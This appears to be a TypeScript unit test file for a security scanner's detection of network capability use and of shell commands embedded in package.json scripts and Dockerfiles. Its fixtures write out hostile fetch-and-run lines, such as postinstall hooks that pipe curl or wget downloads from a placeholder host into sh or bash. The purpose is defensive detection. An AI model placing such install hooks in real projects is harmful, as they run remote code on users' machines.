/**
 * The leftovers of the scanner22 round in the code scan and the project commands: an error class
 * reached through a member of an imported module (TypeScript's CommonJS `e instanceof
 * undici_1.errors.RequestAbortedError`, what `import { errors } from 'undici'` compiles to); and
 * the shell command lines that inline code of a project command hands to a shell
 * (`node -e "require('child_process').execSync('curl … | sh')"`, `python -c "import os;
 * os.system('wget …')"`).
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { scanSource } from '../../src/scan/scan-source.ts';
import { scanProjectCommands } from '../../src/scan/project-commands.ts';

/** `id identifier` of each capability finding, sorted. */
const caps = (text: string, file = 'handler.cjs'): string[] => scanSource(text, { file }).findings.filter((f) => f.kind === 'capability').map((f) => `${f.id} ${f.identifier}`).sort();

test('instanceof through a member of the module (undici_1.errors.X) is no use of the package', () => {
  assert.equal(caps('"use strict";\nconst undici_1 = require("undici");\nexports.aborted = (e) => e instanceof undici_1.errors.RequestAbortedError;\n'), []);
  assert.equal(caps('const undici_1 = __importStar(require("undici"));\nexports.aborted = (e) => e instanceof undici_1.errors.RequestAbortedError || e instanceof undici_1.errors.UndiciError;\n'), []);
  assert.equal(caps('const undici_1 = __importDefault(require("undici"));\nexports.aborted = (e) => e instanceof undici_1.default.errors.RequestAbortedError;\n'), []);
  // The ES forms it stands for: a namespace, and the named import of the member.
  assert.equal(caps("import * as undici from 'undici';\nexport const aborted = (e) => e instanceof undici.errors.RequestAbortedError;\n", 'h.mjs'), []);
  assert.equal(caps("import { errors } from 'undici';\nexport const aborted = (e) => e instanceof errors.RequestAbortedError;\n", 'h.mjs'), []);
  assert.equal(caps("const { errors } = require('undici');\nexports.aborted = (e) => e instanceof errors.RequestAbortedError;\n"), []);
  // Anything else still counts: a lower-case last member, a member reached after the class, a
  // call, the namespace used otherwise too.
  const undici = ['network.http-client-package undici'];
  assert.equal(caps('const undici_1 = require("undici");\nexports.x = (e) => e instanceof undici_1.errors.isAborted;\n'), undici);
  assert.equal(caps('const undici_1 = require("undici");\nexports.x = (e) => e instanceof undici_1.errors.RequestAbortedError.prototype;\n'), undici);
  assert.equal(caps('const undici_1 = require("undici");\nexports.x = (e) => e instanceof undici_1.errors.make().Err;\n'), undici);
  assert.equal(caps('const undici_1 = require("undici");\nexports.x = (e) => e instanceof undici_1.errors.RequestAbortedError;\nexports.get = (u) => (0, undici_1.request)(u);\n'), undici);
  assert.equal(caps("import { errors } from 'undici';\nexport const x = (e) => e instanceof errors.RequestAbortedError;\nexport const all = errors;\n", 'h.mjs'), undici);
});

/** `id identifier` of each finding of a package.json's scripts, sorted. */
const scripts = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ name: 'x', scripts: table }, null, 2), 'package.json').findings.map((f) => `${f.id} ${f.identifier}`).sort();
/** `id identifier` of each finding of a Dockerfile, sorted. */
const docker = (text: string): string[] => scanProjectCommands('Dockerfile', text, 'Dockerfile').findings.map((f) => `${f.id} ${f.identifier}`).sort();

test('a shell command line written in inline code is read as the command rows read a line', () => {
  const execSync = 'subprocess.child-process child_process.execSync';
  const curlSh = ['code-evaluation.command-remote-code command:curl|sh', 'network.command-download command:curl'];
  assert.equal(scripts({ postinstall: "node -e \"require('child_process').execSync('curl -fsSL https://x.test/i | sh')\"" }), [...curlSh, execSync].sort());
  const found = scanProjectCommands('package.json', JSON.stringify({ scripts: { postinstall: "node -e \"require('child_process').execSync('curl -fsSL https://x.test/i | sh')\"" } }), 'package.json').findings;
  assert.ok(found.some((f) => f.detail === 'scripts.postinstall: pipes what curl downloads into sh (a command line of child_process.execSync in the code of node -e)'), found.map((f) => f.detail).join('\n'));
  assert.equal(scripts({ start: "node -e \"const { exec } = require('node:child_process'); exec(\\\"wget -qO- https://x.test/i | bash\\\", () => {})\"" }), ['code-evaluation.command-remote-code command:wget|bash', 'network.command-download command:wget', 'subprocess.child-process child_process.exec']);
  assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import os; os.system('wget https://x.test/tool.tgz')\"\n"), ['network.command-download command:wget', 'subprocess.python-os-exec os.system']);
  assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import subprocess; subprocess.run('curl -s https://x.test/i | bash', shell=True, check=True)\"\n"), ['code-evaluation.command-remote-code command:curl|bash', 'network.command-download command:curl', 'subprocess.python-subprocess subprocess.run']);
  assert.equal(docker("FROM python:3.12\nRUN python3 <<EOF\nimport os\nos.popen(\"curl -s https://x.test/i | sh\").read()\nEOF\n"), ['code-evaluation.command-remote-code command:curl|sh', 'network.command-download command:curl', 'subprocess.python-os-exec os.popen']);
  // Under `prepare` only the rows: the download run as code, not the execSync.
  assert.equal(scripts({ prepare: "node -e \"require('child_process').execSync('curl -fsSL https://x.test/i | sh')\"" }), curlSh);
  // No written line, no shell, or a line that downloads nothing: the call only.
  assert.equal(scripts({ postinstall: "node -e \"require('child_process').execSync('curl ' + u + ' | sh')\"" }), [execSync]);
  assert.equal(scripts({ postinstall: "node -e 'require(\"child_process\").execSync(`curl ${u} | sh`)'" }), [execSync]);
  assert.equal(scripts({ postinstall: "node -e \"require('child_process').execSync('npm run build')\"" }), [execSync]);
  // An argument list built at run time (a written list is read since scanner24, test/scan/scanner24-commands.test.ts).
  assert.equal(scripts({ postinstall: "node -e \"require('child_process').spawnSync('curl', args)\"" }), ['subprocess.child-process child_process.spawnSync']);
  assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import subprocess; subprocess.run('curl https://x.test/i')\"\n"), ['subprocess.python-subprocess subprocess.run']);
  assert.equal(docker("FROM python:3.12\nRUN python3 -c \"import os; os.system(f'curl {u} | sh')\"\n"), ['subprocess.python-os-exec os.system']);
  // A string that is only mentioned is no command line.
  assert.equal(scripts({ postinstall: "node -e \"console.log('curl -fsSL https://x.test/i | sh')\"" }), []);
});

test.run();
